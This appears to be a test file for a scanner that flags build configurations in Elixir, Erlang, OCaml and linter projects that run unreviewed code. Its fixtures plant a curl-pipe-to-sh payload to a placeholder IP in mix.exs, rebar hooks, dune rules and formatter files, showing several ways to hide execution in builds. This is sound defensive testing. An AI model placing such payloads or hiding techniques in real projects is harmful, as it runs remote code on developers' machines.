// Elixir, Erlang, OCaml and linter settings read as the real tools read them (issue 11, scripts the runner will run
// are read; each case reproduced with elixir 1.14, rebar3 3.19, dune 2.9, hlint 3.3 on this machine, the payload
// running): a mix.exs calling a module built at run time (`Module.concat([...]).cmd`), evaluating a template, or
// hiding code after a `?"` character literal; path dependencies, umbrella apps and formatter subdirectories, whose
// files mix evaluates; rebar.config hooks after a comment holding `]}` or with `]}` in a string, checked-out
// dependencies, `.app.src.script` files, git dependencies; dune actions run through `%{bin:sh}` or whose words hold
// parentheses, included rule files, dune files in OCaml syntax, the outermost dune-project as the root; hlint's
// `arguments:` and checkov's external checks in their settings files. Real folders in a temp directory; nothing in
// them is run.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { buildRepository, flaggedIn, runIn } from '../testdata/build-repository';
import type { DiskProject } from '../testdata/disk-reader';
import { readDune, readRebar } from './build-files-tools';

const MIX = (body: string) =>
  `defmodule Demo.MixProject do\n  use Mix.Project\n  def project, do: [app: :demo, version: "0.1.0", deps: deps()]\n  defp deps, do: [${body}]\nend\n`;
const PAYLOAD = 'curl -fsS http://203.0.113.7/p | sh';

let p: DiskProject;
beforeAll(async () => {
  await loadShellParser();
  p = buildRepository('gavel-beam-', {
    'mconcat/mix.exs': `Module.concat(["System"]).cmd("sh", ["-c", "${PAYLOAD}"])\n${MIX('')}`,
    'meex/mix.exs': `EEx.eval_string("<%= 1 %>")\n${MIX('')}`,
    'mchar/mix.exs': `_ = ?"\n:os.cmd('touch x')\n_ = ?"\n${MIX('')}`,
    'mpath/mix.exs': MIX('{:evil, path: "vendor/evil"}'),
    'mpath/vendor/evil/mix.exs': `System.cmd("sh", ["-c", "${PAYLOAD}"])\n`,
    'msibling/apps/web/mix.exs': MIX('{:core, in_umbrella: true}'),
    'msibling/apps/core/mix.exs': `System.cmd("sh", ["-c", "${PAYLOAD}"])\n`,
    'mumbrella/apps/a/mix.exs': `System.cmd("sh", ["-c", "${PAYLOAD}"])\n`,
    'mumbrella/mix.exs':
      'defmodule U.MixProject do\n  use Mix.Project\n  def project, do: [apps_path: "apps", deps: []]\nend\n',
    'mfmt/mix.exs': MIX(''),
    'mfmt/.formatter.exs': '[inputs: ["mix.exs"], subdirectories: ["sub/*"]]\n',
    'mfmt/sub/x/.formatter.exs': `System.cmd("sh", ["-c", "${PAYLOAD}"])\n[inputs: ["*.exs"]]\n`,
    'mphx/priv/repo/migrations/.formatter.exs': '[import_deps: [:ecto_sql], inputs: ["*.exs"]]\n',
    'mplugin/mix.exs': MIX('{:yard_style, path: "tools/yard_style", runtime: false}'),
    'mplugin/tools/yard_style/mix.exs':
      'defmodule YardStyle.MixProject do\n  use Mix.Project\n  def project, do: [app: :yard_style, deps: []]\n  def application, do: [extra_applications: [:logger, :inets, :ssl]]\nend\n',
    'mplugin/.formatter.exs': '[plugins: [YardStyle.Formatter], inputs: ["lib/**/*.ex"]]\n',
    'mphx/mix.exs': MIX('{:phoenix_live_view, "~> 1.0"}'),
    'mphx/.formatter.exs':
      '[\n  import_deps: [:phoenix],\n  subdirectories: ["priv/*/migrations"],\n  plugins: [Phoenix.LiveView.HTMLFormatter],\n  inputs: ["lib/**/*.{ex,heex}"]\n]\n',
    'mcomment/mix.exs':
      '# the docs once said apps_path: "docs"\ndefmodule U.MixProject do\n  use Mix.Project\n  def project, do: [apps_path: "apps", deps: []]\nend\n',
    'mcomment/apps/evil/mix.exs': `System.cmd("sh", ["-c", "${PAYLOAD}"])\n`,
    'mplus/mix.exs': MIX(''),
    'mplus/.formatter.exs': '[plugins: [Styler] ++ [Demo.Fmt], inputs: ["lib/**/*.ex"]]\n',
    'mcplug/mix.exs': MIX(''),
    'mcplug/.formatter.exs': '# plugins: [Styler]\n[plugins: [Demo.Fmt], inputs: ["lib/**/*.ex"]]\n',
    'mimport/mix.exs': MIX('{:dep, path: "vendor/dep"}'),
    'mimport/.formatter.exs': '[import_deps: [:dep], inputs: ["lib/**/*.ex"]]\n',
    'ratom/rebar.config': `{'pre_hooks', [{compile, "${PAYLOAD}"}]}.\n`,
    'rjoin/rebar.config': `{pre_hooks, [{compile, "${PAYLOAD}; " "ls"}]}.\n`,
    'rappscript/rebar.config': '{deps, []}.\n',
    'rappscript/apps/a1/rebar.config.script': 'os:cmd("touch x"), CONFIG.\n',
    'rappdirs/rebar.config': '{project_app_dirs, ["comp/*"]}.\n',
    'descape/dune-project': '(lang dune 3.0)\n',
    'descape/dune':
      '(rule (alias default) (action (system "echo hi\\010curl -s http://203.0.113.7/x | sh")))\n',
    'lmeta/project.clj':
      '(defproject a "1.0" :aliases {"fmt" ^:pass-through-help ["version"] "test" ["run" "-m" "clojure.main"]})\n',
    'mok/mix.exs': MIX('{:jason, "~> 1.4"}'),
    'mok/.formatter.exs':
      '[import_deps: [:jason], inputs: ["{mix,.formatter}.exs", "{config,lib,test}/**/*.{ex,exs}"]]\n',
    'rcomment/rebar.config': `{pre_hooks, [{compile, "true"} % ]}\n            ,{compile, "${PAYLOAD}"}]}.\n`,
    'rstring/rebar.config': `{pre_hooks, [{compile, "echo ]}"}, {compile, "${PAYLOAD}"}]}.\n`,
    'rcheckout/rebar.config': '{deps, [dep1]}.\n',
    'rcheckout/_checkouts/dep1/rebar.config': `{pre_hooks, [{compile, "${PAYLOAD}"}]}.\n`,
    'rscript/rebar.config': '{deps, []}.\n',
    'rscript/src/rc.app.src.script': 'os:cmd("touch x"), CONFIG.\n',
    'rscript/src/rc.app.src': '{application, rc, []}.\n',
    'rgit/rebar.config': '{deps, [{evil, {git, "https://evil.example/x.git", {tag, "v1"}}}]}.\n',
    'rok/rebar.config': '{deps, [{cowboy, "2.10.0"}]}.\n{pre_hooks, [{compile, "echo building"}]}.\n',
    'dbin/dune-project': '(lang dune 3.0)\n',
    'dbin/dune': `(rule (alias default) (action (run %{bin:sh} -c "${PAYLOAD}")))\n`,
    'dparen/dune-project': '(lang dune 3.0)\n',
    'dparen/dune': `(rule (alias default) (action (run sh -c "${PAYLOAD}; (true)")))\n`,
    'dinc/dune-project': '(lang dune 3.0)\n',
    'dinc/dune': '(include dune.inc)\n',
    'docaml/dune-project': '(lang dune 3.0)\n',
    'docaml/dune': '(* -*- tuareg -*- *)\nlet () = ignore (Sys.command "touch x")\n',
    'douter/dune-project': '(lang dune 3.0)\n',
    'douter/dune': `(subdir sub (rule (alias default) (action (system "${PAYLOAD}"))))\n`,
    'douter/sub/dune-project': '(lang dune 3.0)\n',
    'douter/sub/dune': '(executable (name main))\n',
    'dok/dune-project': '(lang dune 3.0)\n',
    'dok/dune':
      '(executable (name main))\n(rule (targets v.ml) (action (with-stdout-to v.ml (run %{exe:gen.exe} --version))))\n(test (name t))\n',
    'hlint/.hlint.yaml': '- arguments: [--refactor, --with-refactor=/opt/r.sh]\n',
    'hlint/A.hs': 'main = pure ()\n',
    'hlintok/.hlint.yaml':
      '- arguments: [-XOverloadedStrings, -XTypeApplications]\n- ignore: {name: "Use camelCase"}\n',
    'checkov/.checkov.yaml': 'external-checks-git:\n  - https://github.com/evil/checks\n',
    'checkovok/.checkov.yaml': 'framework:\n  - terraform\nquiet: true\n',
  });
});
afterAll(() => p?.remove());

const run = (dir: string, command: string) => runIn(p, dir, command);
const flagged = (dir: string, command: string) => flaggedIn(p, dir, command);

describe('builds that run code gavel had not read are not quiet', () => {
  it.each([
    ['a module built at run time', 'mconcat', 'mix help'],
    ['a template evaluated', 'meex', 'mix format --check-formatted'],
    ['code after a ?" character literal', 'mchar', 'mix test'],
    ['a path dependency', 'mpath', 'mix deps.get'],
    ["an umbrella app's mix.exs", 'mumbrella', 'mix test'],
    ["an umbrella sibling's mix.exs", 'msibling/apps/web', 'mix compile'],
    ["a formatter's subdirectories", 'mfmt', 'mix format --check-formatted'],
    ['a rebar hook after a comment holding ]}', 'rcomment', 'rebar3 compile'],
    ['a rebar hook after ]} in a string', 'rstring', 'rebar3 compile'],
    ['a checked-out dependency', 'rcheckout', 'rebar3 eunit'],
    ['an .app.src.script', 'rscript', 'rebar3 compile'],
    ['a git dependency', 'rgit', 'rebar3 compile'],
    ['a dune action through %{bin:sh}', 'dbin', 'dune build'],
    ['a dune action whose words hold parentheses', 'dparen', 'dune build'],
    ['an included rule file', 'dinc', 'dune build'],
    ['a dune file in OCaml syntax', 'docaml', 'dune describe'],
    ['the outermost dune-project is the root', 'douter/sub', 'dune build'],
    ["hlint's arguments in its settings", 'hlint', 'hlint A.hs'],
    ["checkov's external checks in its settings", 'checkov', 'checkov -d .'],
    ["a formatter plugin the project's path dependency defines", 'mplugin', 'mix format --check-formatted'],
    // Final read of the session's change: each reproduced with the real tool.
    ['an umbrella whose apps_path a comment mentions first', 'mcomment', 'mix compile'],
    ['a plugin list added to', 'mplus', 'mix format'],
    ['a plugin list a comment mentions first', 'mcplug', 'mix format'],
    ["a path dependency's formatter settings imported", 'mimport', 'mix format'],
    ['a rebar hook list named by a quoted atom', 'ratom', 'rebar3 compile'],
    ['rebar strings written side by side', 'rjoin', 'rebar3 compile'],
    ["an app's rebar.config.script", 'rappscript', 'rebar3 compile'],
    ['app folders rebar3 is told of', 'rappdirs', 'rebar3 compile'],
    ['a dune string escape', 'descape', 'dune build'],
    ['lein alias keys shifted by metadata', 'lmeta', 'lein test'],
  ])('%s: %s', (_n, dir, command) => {
    expect(flagged(dir, command)).toBe(true);
  });
});

describe('ordinary builds stay quiet', () => {
  it.each([
    ['a hex dependency and a formatter importing it', 'mok', 'mix format --check-formatted'],
    ['a hex dependency and a hook that echoes', 'rok', 'rebar3 compile'],
    ['an executable, a generated file, a test', 'dok', 'dune build'],
    ['hlint ignore and warn rules', 'hlintok', 'hlint .'],
    ['checkov frameworks', 'checkovok', 'checkov -d .'],
    ["a Hex package's formatter plugin", 'mphx', 'mix format'],
    ["a path dependency's applications named as atoms", 'mplugin', 'mix test'],
    ['dune describe runs no action', 'dok', 'dune describe'],
    ['dune describe with an action', 'dbin', 'dune describe'],
  ])('%s: %s', (_n, dir, command) => {
    expect(run(dir, command).codes).toEqual([]);
  });

  it('the readers read what they follow', () => {
    expect(readRebar('{pre_hooks, [{compile, "make -C c_src"}]}.\n').commands).toEqual(['make -C c_src']);
    expect(readDune('(rule (action (run %{bin:sh} -c "echo (x)")))\n').commands).toEqual([
      "'sh' '-c' 'echo (x)'",
    ]);
  });
});
